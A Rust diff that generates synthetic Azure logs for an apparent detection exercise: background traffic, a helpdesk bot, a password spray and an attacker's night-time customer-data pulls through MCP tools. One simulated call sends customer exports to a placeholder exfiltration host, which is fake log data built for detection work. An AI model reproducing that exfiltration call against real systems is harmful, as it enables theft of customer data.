+                "category": "FlowLogFlowEvent", "flowLogResourceID": format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/NETWORKWATCHERRG/PROVIDERS/MICROSOFT.NETWORK/NETWORKWATCHERS/NETWORKWATCHER_WESTEUROPE/FLOWLOGS/FL-MCP-TICKETS", self.scenario.subscription.to_ascii_uppercase()),
+                "targetResourceID": format!("/subscriptions/{}/resourceGroups/rg-mcp-prod/providers/Microsoft.Network/virtualNetworks/vnet-mcp/subnets/snet-tickets", self.scenario.subscription),
+                "operationName": "FlowLogFlowEvent",
+                "flowRecords": {"flows": [{"aclID": "9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d", "flowGroups": [{"rule": "UserRule_Allow-APIM-Inbound", "flowTuples": vnet_tuples}]}]},
+            });
+            let prefix = self.vnet_prefix();
+            self.blobs.flow_record(
+                "insights-logs-flowlogflowevent",
+                &prefix,
+                mac,
+                record_time,
+                record.to_string(),
+            );
+        } else {
+            let record = json!({
+                "time": ts(record_time), "systemId": "5f0c2b1a-8d3e-4f6a-9b7c-1d2e3f4a5b6c", "macAddress": mac, "category": "NetworkSecurityGroupFlowEvent",
+                "resourceId": format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG-MCP-PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-MCP-PROD", self.scenario.subscription.to_ascii_uppercase()),
+                "operationName": "NetworkSecurityGroupFlowEvents",
+                "properties": {"Version": 2, "flows": [{"rule": rule, "flows": [{"mac": mac, "flowTuples": tuples}]}]},
+            });
+            let prefix = self.nsg_prefix();
+            self.blobs.flow_record(
+                "insights-logs-networksecuritygroupflowevent",
+                &prefix,
+                mac,
+                record_time,
+                record.to_string(),
+            );
+        }
+        self.rows += 1;
+    }
+
+    /// Backups, Key Vault reads, scanner noise, session events and audit entries: every day, baseline and window alike.
+    fn background(&mut self, midnight: DateTime<Utc>) {
+        let backup = midnight + Duration::hours(2) + Duration::seconds(self.rng.range(0, 600));
+        let trace = self.rng.hex(32);
+        let span = self.rng.hex(16);
+        let size = self.rng.range(1_400_000_000, 1_600_000_000);
+        let name = format!("PUT /backups/crm-{}.bak", midnight.format("%Y-%m-%d"));
+        let url = format!(
+            "https://{BACKUP_HOST}/backups/crm-{}.bak",
+            midnight.format("%Y-%m-%d")
+        );
+        self.dependency(
+            backup,
+            &trace,
+            &span,
+            "Azure blob",
+            BACKUP_HOST,
+            &name,
+            &url,
+            Some(BACKUP_IP),
+            size,
+        );
+        self.flow(
+            MCP_MAC,
+            backup,
+            MCP_HOST_IP,
+            BACKUP_IP,
+            (40_000, 60_000),
+            443,
+            'O',
+            size,
+            90_000,
+        );
+        for hour in 0..24 {
+            let t = midnight + Duration::hours(hour) + Duration::seconds(self.rng.range(0, 3_000));
+            let trace = self.rng.hex(32);
+            let span = self.rng.hex(16);
+            self.dependency(
+                t,
+                &trace,
+                &span,
+                "Azure Key Vault",
+                VAULT_HOST,
+                "GET /secrets/crm-db",
+                &format!("https://{VAULT_HOST}/secrets/crm-db"),
+                Some(VAULT_IP),
+                0,
+            );
+            self.flow(
+                MCP_MAC,
+                t,
+                MCP_HOST_IP,
+                VAULT_IP,
+                (40_000, 60_000),
+                443,
+                'O',
+                1_900,
+                5_400,
+            );
+            // Internet scanners hitting the NSG, denied.
+            for _ in 0..self.rng.range(1, 4) {
+                let scan =
+                    midnight + Duration::hours(hour) + Duration::seconds(self.rng.range(0, 3_599));
+                let src = (*self.rng.pick(SCANNERS)).to_string();
+                let port = *self.rng.pick(&[22, 23, 445, 3389, 5900, 8080]);
+                let record = json!({
+                    "time": ts(scan), "systemId": "5f0c2b1a-8d3e-4f6a-9b7c-1d2e3f4a5b6c", "macAddress": MCP_MAC, "category": "NetworkSecurityGroupFlowEvent",
+                    "resourceId": format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG-MCP-PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-MCP-PROD", self.scenario.subscription.to_ascii_uppercase()),
+                    "operationName": "NetworkSecurityGroupFlowEvents",
+                    "properties": {"Version": 2, "flows": [{"rule": "DefaultRule_DenyAllInBound", "flows": [{"mac": MCP_MAC, "flowTuples": [format!("{},{src},{MCP_HOST_IP},{},{port},T,I,D,B,,,,", scan.timestamp(), self.rng.range(1_024, 65_535))]}]}]},
+                });
+                let prefix = self.nsg_prefix();
+                self.blobs.flow_record(
+                    "insights-logs-networksecuritygroupflowevent",
+                    &prefix,
+                    MCP_MAC,
+                    scan,
+                    record.to_string(),
+                );
+                self.rows += 1;
+            }
+        }
+        let started = midnight + Duration::minutes(self.rng.range(0, 50));
+        self.emit("AppEvents", started, json!({
+            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(started), "Name": "McpServerHeartbeat",
+            "Properties": {"server.version": "1.4.2", "tools": "6"}, "AppRoleName": "mcp-crm-server", "AppRoleInstance": "vm-mcp-01",
+            "ClientIP": "0.0.0.0", "ItemCount": 1, "SDKVersion": "otelpy1.29.0", "Type": "AppEvents",
+        }));
+        let audit_time = midnight + Duration::hours(9) + Duration::minutes(self.rng.range(0, 300));
+        let admin = self.scenario.users[0].clone();
+        self.audit(
+            audit_time,
+            &admin,
+            OFFICE_IP,
+            "Update user",
+            "UserManagement",
+        );
+    }
+
+    fn audit(&mut self, t: DateTime<Utc>, actor: &User, ip: &str, activity: &str, category: &str) {
+        let target = self.rng.pick(&self.scenario.users).clone();
+        let (id, correlation) = (format!("Directory_{}", self.rng.hex(20)), self.rng.uuid());
+        let row = json!({
+            "TenantId": self.scenario.workspace_id, "SourceSystem": "Azure AD", "TimeGenerated": ts(t), "ActivityDateTime": ts(t),
+            "Id": id, "CorrelationId": correlation, "OperationName": activity, "ActivityDisplayName": activity,
+            "Category": category, "AADOperationType": "Update", "Result": "success", "ResultReason": "", "LoggedByService": "Core Directory",
+            "InitiatedBy": {"user": {"id": actor.object_id, "userPrincipalName": actor.upn, "ipAddress": ip, "displayName": actor.display}},
+            "TargetResources": [{"id": target.object_id, "displayName": target.display, "type": "User", "userPrincipalName": target.upn, "modifiedProperties": []}],
+            "AdditionalDetails": [{"key": "User-Agent", "value": "Mozilla/5.0"}], "Type": "AuditLogs",
+        });
+        self.emit("AuditLogs", t, row);
+    }
+
+    /// The helpdesk bot's daytime calls to `mcp-tickets` through API Management.
+    fn helpdesk(&mut self, midnight: DateTime<Utc>) {
+        for hour in 8..17 {
+            for _ in 0..self.rng.poisson(0.8 * self.scenario.scale.clamp(0.2, 4.0)) {
+                let t = midnight
+                    + Duration::hours(hour)
+                    + Duration::milliseconds(self.rng.range(0, 3_599_000));
+                let user = self.rng.pick(&self.scenario.users).clone();
+                let customer = self.rng.pick(&user.customers).clone();
+                let ticket = format!("T-{}", self.rng.range(100_000, 999_999));
+                self.apim_call(
+                    t,
+                    OFFICE_IP,
+                    "get_ticket",
+                    json!({"customer_id": customer, "ticket_id": ticket}),
+                    "helpdesk-bot",
+                    2_400,
+                );
+            }
+        }
+    }
+
+    fn apim_call(
+        &mut self,
+        t: DateTime<Utc>,
+        caller: &str,
+        tool: &str,
+        arguments: Value,
+        client: &str,
+        response_size: i64,
+    ) {
+        let correlation = self.rng.uuid();
+        let session = self.rng.uuid();
+        let id = self.rng.range(1, 500);
+        let body = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": tool, "arguments": arguments}});
+        let resource = format!(
+            "/subscriptions/{}/resourcegroups/rg-mcp-prod/providers/microsoft.apimanagement/service/apim-mcp-prod",
+            self.scenario.subscription
+        );
+        let total_time = self.rng.range(30, 400);
+        let gateway = json!({
+            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "OperationName": "Microsoft.ApiManagement/GatewayLogs",
+            "CorrelationId": correlation, "Region": "West Europe", "IsRequestSuccess": true, "Category": "GatewayLogs", "TotalTime": total_time,
+            "CallerIpAddress": caller, "Method": "POST", "Url": "https://apim-mcp-prod.azure-api.net/tickets/mcp", "ClientProtocol": "HTTP/1.1",
+            "ResponseCode": 200, "BackendMethod": "POST", "BackendUrl": format!("http://{TICKETS_IP}:8080/mcp"), "BackendResponseCode": 200,
+            "RequestSize": 420 + body.to_string().len(), "ResponseSize": response_size, "ApiId": "mcp-tickets", "OperationId": "mcp-post",
+            "ApimSubscriptionId": "helpdesk", "UserId": "", "ProductId": "mcp", "RequestBody": body.to_string(),
+            "ResponseBody": json!({"jsonrpc": "2.0", "id": id, "result": {"content": [{"type": "text", "text": "ticket found"}]}}).to_string(),
+            "Type": "ApiManagementGatewayLogs", "_ResourceId": resource,
+        });
+        self.emit("ApiManagementGatewayLogs", t, gateway);
+        self.emit("ApiManagementGatewayMCPLog", t, json!({
+            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "OperationName": "tools/call", "CorrelationId": correlation,
+            "SessionId": session, "Method": "tools/call", "ToolName": tool, "ClientName": client, "ClientVersion": "2.3.1",
+            "AuthenticationMethod": "api_key", "ApiType": "mcp", "McpServerEndpoint": format!("http://{TICKETS_IP}:8080/mcp"),
+            "ServerName": "mcp-tickets", "ServerVersion": "0.9.0", "ProtocolVersion": "2025-06-18", "TransportType": "streamable-http",
+            "Region": "West Europe", "Type": "ApiManagementGatewayMCPLog", "_ResourceId": resource,
+        }));
+        self.flow(
+            TICKETS_MAC,
+            t,
+            APIM_PRIVATE_IP,
+            TICKETS_IP,
+            (30_000, 60_000),
+            8080,
+            'I',
+            900,
+            response_size + 300,
+        );
+    }
+
+    /// The password spray: failures on every account from one IP, then a success on the victim.
+    fn spray(&mut self, start: DateTime<Utc>) {
+        let users = self.scenario.users.clone();
+        let mut t = start;
+        for (i, user) in users.iter().enumerate() {
+            if matches!(user.pattern, Pattern::StartsOn(_)) {
+                continue;
+            }
+            t += Duration::milliseconds(self.rng.range(4_000, 25_000));
+            self.sign_in(user, t, SPRAY_IP, "50126", true);
+            if i % 6 == 5 {
+                t += Duration::milliseconds(self.rng.range(1_000, 5_000));
+                self.sign_in(user, t, SPRAY_IP, "50053", true);
+            }
+        }
+        let victim = users[self.scenario.victim].clone();
+        t += Duration::seconds(self.rng.range(60, 240));
+        self.sign_in(&victim, t, SPRAY_IP, "50126", true);
+        t += Duration::seconds(self.rng.range(20, 90));
+        self.sign_in(&victim, t, SPRAY_IP, "0", true);
+        t += Duration::minutes(4);
+        self.audit(
+            t,
+            &victim,
+            SPRAY_IP,
+            "User registered security info",
+            "UserManagement",
+        );
+    }
+
+    /// A night of quiet pulls from a new IP through the victim's identity, plus anonymous APIM calls.
+    fn attacker_night(&mut self, midnight: DateTime<Utc>, night: u32) {
+        let victim = self.scenario.users[self.scenario.victim].clone();
+        let ip = NIGHT_IPS[(night as usize) % 2];
+        let start = midnight
+            + Duration::hours(if night == 0 { 4 } else { 1 })
+            + Duration::minutes(self.rng.range(0, 60));
+        self.sign_in(&victim, start, ip, "0", false);
+        let session = self.rng.uuid();
+        let all_customers = self.scenario.targets();
+        let mut t = start + Duration::seconds(self.rng.range(10, 60));
+        let calls = self.rng.range(6, 16);
+        for _ in 0..calls {
+            t += Duration::milliseconds(self.rng.range(20_000, 240_000));
+            let roll = self.rng.below(100);
+            let call = match roll {
+                0..=19 => {
+                    let matched: Vec<String> = (0..self.rng.range(8, 20))
+                        .map(|_| self.rng.pick(&all_customers).clone())
+                        .collect();
+                    let bytes = 1_500 * matched.len() as i64;
+                    Call {
+                        tool: "search_customers",
+                        arguments: json!({"query": "%"}),
+                        customers: matched,
+                        response_bytes: bytes,
+                        upload: None,
+                    }
+                }
+                20..=59 => {
+                    let customer = self.rng.pick(&all_customers).clone();
+                    Call {
+                        tool: "get_customer",
+                        arguments: json!({"customer_id": customer}),
+                        customers: vec![customer],
+                        response_bytes: self.rng.range(4_000, 9_000),
+                        upload: None,
+                    }
+                }
+                60..=74 => {
+                    let customer = self.rng.pick(&all_customers).clone();
+                    Call {
+                        tool: "list_orders",
+                        arguments: json!({"customerId": customer, "since": "2020-01-01"}),
+                        customers: vec![customer],
+                        response_bytes: self.rng.range(20_000, 90_000),
+                        upload: None,
+                    }
+                }
+                _ => {
+                    let ids: Vec<String> = (0..self.rng.range(10, 25))
+                        .map(|_| self.rng.pick(&all_customers).clone())
+                        .collect();
+                    let upload = 60_000 * ids.len() as i64 + self.rng.range(0, 50_000);
+                    Call {
+                        tool: "export_customer_data",
+                        arguments: json!({"customer_ids": ids, "format": "csv", "deliver_to": format!("https://{EXFIL_HOST}/u/{}", self.rng.hex(10))}),
+                        customers: ids,
+                        response_bytes: 900,
+                        upload: Some(upload),
+                    }
+                }
+            };
+            self.tool_call(&victim, ip, &session, t, &call, true);
+        }
+        if self.rng.chance(0.45) {
+            let all = self.scenario.targets();
+            for _ in 0..self.rng.range(2, 6) {
+                t += Duration::milliseconds(self.rng.range(15_000, 90_000));
+                let customer = self.rng.pick(&all).clone();
+                self.apim_call(
+                    t,
+                    ip,
+                    "search_tickets",
+                    json!({"customer_id": customer}),
+                    "python-httpx",
+                    38_000,
+                );
+                self.touched.insert(customer);
+                self.anonymous_calls += 1;
+                self.attacker_calls += 1;
+            }
+        }
+    }
+}
